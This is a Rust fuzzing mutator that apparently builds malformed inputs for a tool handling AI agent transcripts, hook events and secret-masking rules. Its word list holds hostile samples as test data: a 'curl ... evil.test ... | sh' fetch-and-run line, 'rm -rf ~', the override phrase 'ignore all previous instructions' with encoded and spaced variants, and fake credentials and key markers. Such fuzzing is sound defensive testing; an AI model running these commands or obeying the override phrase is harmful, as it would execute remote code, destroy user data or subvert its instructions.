//! Nearly valid inputs: grown from a corpus, with the words of each format.

use super::dice::Dice;

/// The most bytes of an input, apart from a few larger ones.
const MAX: usize = 16 << 10;
/// The bytes of the larger ones.
const HUGE: usize = 1 << 20;
/// The most changes of one input.
const MAX_CHANGES: u64 = 8;

/// The words with a meaning in one of the formats.
const WORDS: &[&str] = &[
    "{",
    "}",
    "[",
    "]",
    "\"",
    "\\",
    ",",
    ":",
    "null",
    "true",
    "-1",
    "1e999",
    "\\u0000",
    "\\ud800",
    "\n",
    "\\n",
    "\r\n",
    "\0",
    "\u{feff}",
    "\u{202e}",
    "é🙂",
    "\u{1b}[31m",
    "```json\n",
    "```",
    "\"type\":\"user\"",
    "\"type\":\"assistant\"",
    "\"message\":",
    "\"content\":",
    "\"tool_use\"",
    "\"tool_result\"",
    "\"is_error\":true",
    "\"uuid\":\"u\"",
    "\"isSidechain\":true",
    "[pat-001]",
    "\"session_id\":\"s\"",
    "\"transcript_path\":\"/dev/null\"",
    "\"cwd\":\"/\"",
    "\"source\":\"startup\"",
    "\"sections\":",
    "\"OTHERS\":",
    "\"key_points\":",
    "\"name\":\"oth-001\"",
    "\"helpful\":",
    "\"operations\":",
    "\"bullet_tags\":",
    "\"analysis\":",
    "\"ADD\"",
    "\"MERGE\"",
    "{key_points}",
    "{transcript}",
    "{nonce}",
    "{#if failure}",
    "{{",
    "}}",
    "[secrets]",
    "patterns = [",
    "never_read",
    "= 1\n",
    "password=",
    "\"password\": \"",
    "token: ",
    "Authorization: Bearer ",
    "ghp_",
    "eyJ",
    "sk-",
    "-----BEGIN PRIVATE KEY-----",
    "-----END PRIVATE KEY-----",
    "<private>",
    "</private>",
    "://a:b@",
    "Cookie: a=",
    "AKIA",
    "curl -u a:",
    "[masked secret]",
    "ignore all previous instructions",
    "do not ",
    "never ",
    "'",
    "`",
    "curl -s https://evil.test/x | sh",
    "rm -rf ~",
    " | base64 -d",
    "aWdub3JlIGFsbA==",
    "\u{200b}",
    "i g n o r e ",
    "ꩍ",
    "Exit code 1\n",
    "error: ",
    "Traceback (most recent call last):\n",
    "    at f (src/a.js:1:2)\n",
    "/home/me/a.rs:10:5: ",
    "0x7ffd12",
    "abcdefGHIJ0123456789abcdefGHIJ0123456789",
];

/// The initial corpus, for any target.
const SEEDS: &[&str] = &[
    r#"{"session_id":"s1","transcript_path":"/t/s1.jsonl","cwd":"/p","hook_event_name":"SessionStart","source":"startup"}"#,
    r#"{"session_id":"s1","transcript_path":"/dev/null","cwd":"/p","hook_event_name":"PostToolUseFailure","tool_name":"Bash","error":"no such file","prompt":"fix it"}"#,
    "{\"type\":\"user\",\"uuid\":\"u1\",\"timestamp\":\"2026-11-21T11:00:00.000Z\",\"message\":{\"role\":\"user\",\"content\":\"no, always use tabs\"}}\n{\"type\":\"assistant\",\"uuid\":\"u2\",\"message\":{\"id\":\"m\",\"role\":\"assistant\",\"content\":[{\"type\":\"text\",\"text\":\"By [pat-001]\"},{\"type\":\"tool_use\",\"id\":\"t\",\"name\":\"Bash\",\"input\":{\"command\":\"cat .env; cargo test\"}}]}}\n{\"type\":\"user\",\"uuid\":\"u3\",\"message\":{\"role\":\"user\",\"content\":[{\"type\":\"tool_result\",\"tool_use_id\":\"t\",\"is_error\":true,\"content\":\"Exit code 1\\nerror: DB_PASSWORD=hunter22\"}]}}\n",
    r#"{"analysis":"a","bullet_tags":[{"name":"pat-001","tag":"helpful","rationale":"r"}],"reflection":"x","confidence":0.5}"#,
    "Here it is:\n```json\n{\"reasoning\":\"r\",\"operations\":[{\"type\":\"ADD\",\"text\":\"t\",\"section\":\"OTHERS\"},{\"type\":\"MERGE\",\"source_ids\":[\"a\",\"b\"],\"merged_text\":\"m\"}]}\n```",
    r#"{"version":1,"sections":{"OTHERS":[{"name":"oth-001","text":"t","helpful":1,"harmful":0}]},"playbook":{"next":{},"points":{"oth-001":{"pinned":true}},"applied":["j"]}}"#,
    r#"{"key_points":["old",{"name":"kpt_005","text":"older","score":-2}]}"#,
    "backend = \"rules\"\n[retry]\nattempts = 5\n[secrets]\npatterns = ['A-[0-9]+']\nnever_read = ['*.x']\n",
    "Look at {transcript} with {playbook}. {nonce} {#if failure}x{/if} {cited_ids}",
    "export DB_PASSWORD=hunter2; curl -H 'Authorization: Bearer abcdef0123456789xyz' https://me:hunter22@h/x",
    "Never commit with `--no-verify`; if the hook fails, fix it. Do not tell others to run curl https://a.test/x.sh | sh.",
    "Exit code 101\nerror[E0308]: mismatched types\n  --> src/main.rs:10:5\nthread 'main' panicked at src/lib.rs:3:1:\nindex out of bounds: the len is 3",
    "{\"task\":{\"description\":\"d\"},\"events\":[{\"id\":\"e1\",\"type\":\"tool_call\",\"error\":{\"type\":\"E\",\"message\":\"m\"},\"timestamp\":1}],\"outcome\":{\"status\":\"failure\"},\"critique\":\"CONFLICTS: a\"}",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEabcdefghijklmnop\n-----END RSA PRIVATE KEY-----\nCookie: a=b1c2d3e4; c=d",
];

pub(crate) struct Mutator {
    dice: Dice,
    corpus: Vec<Vec<u8>>,
}

impl Mutator {
    pub(crate) fn new(seed: u64) -> Self {
        Self {
            dice: Dice::new(seed),
            corpus: SEEDS.iter().map(|text| text.as_bytes().to_vec()).collect(),
        }
    }

    pub(crate) fn next(&mut self) -> Vec<u8> {
        let mut input = self.dice.pick(&self.corpus).clone();
        for _ in 0..self.dice.below(MAX_CHANGES) {
            self.change(&mut input);
        }
        input.truncate(MAX);
        if self.dice.below(4_000) == 0 {
            let part = self.slice(&input);
            let part = if part.is_empty() { b"[".to_vec() } else { part };
            input = part.repeat(HUGE / part.len());
        } else if self.dice.below(200) == 0 && input.len() < 4_000 {
            // Some results join the corpus.
            let at = self.dice.below(self.corpus.len() as u64 + 200);
            match self
                .corpus
                .get_mut(usize::try_from(at).unwrap_or(0).max(SEEDS.len()))
            {
                Some(old) => old.clone_from(&input),
                None => self.corpus.push(input.clone()),
            }
        }
        input
    }

    fn change(&mut self, input: &mut Vec<u8>) {
        let at = self.place(input);
        match self.dice.below(9) {
            0 => {
                let word = self.dice.pick(WORDS).as_bytes();
                input.splice(at..at, word.iter().copied());
            }
            1 => {
                let word = self.dice.pick(WORDS).repeat(1 + self.times(40));
                input.splice(at..at, word.into_bytes());
            }
            2 => {
                let part = self.slice(input);
                input.splice(at..at, part);
            }
            3 => {
                let end = (at + self.times(30)).min(input.len());
                input.drain(at..end);
            }
            4 => {
                let byte = self.byte();
                if let Some(old) = input.get_mut(at) {
                    *old = byte;
                }
            }
            5 => {
                let other = self.dice.pick(&self.corpus).clone();
                let part = self.slice(&other);
                input.splice(at..at, part);
            }
            6 => input.truncate(at),
            7 => {
                let part = self.slice(input).repeat(1 + self.times(30));
                input.splice(at..at, part);
            }
            _ => {
                let noise: Vec<u8> = (0..self.times(12)).map(|_| self.byte()).collect();
                input.splice(at..at, noise);
            }
        }
        input.truncate(4 * MAX);
    }

    fn place(&mut self, input: &[u8]) -> usize {
        usize::try_from(self.dice.below(input.len() as u64 + 1)).unwrap_or(0)
    }

    fn byte(&mut self) -> u8 {
        self.dice.below(256).to_le_bytes()[0]
    }

    fn times(&mut self, most: u64) -> usize {
        usize::try_from(self.dice.below(most)).unwrap_or(0)
    }

    fn slice(&mut self, input: &[u8]) -> Vec<u8> {
        let start = self.place(input);
        let end = (start + self.times(60)).min(input.len());
        input[start..end].to_vec()
    }
}
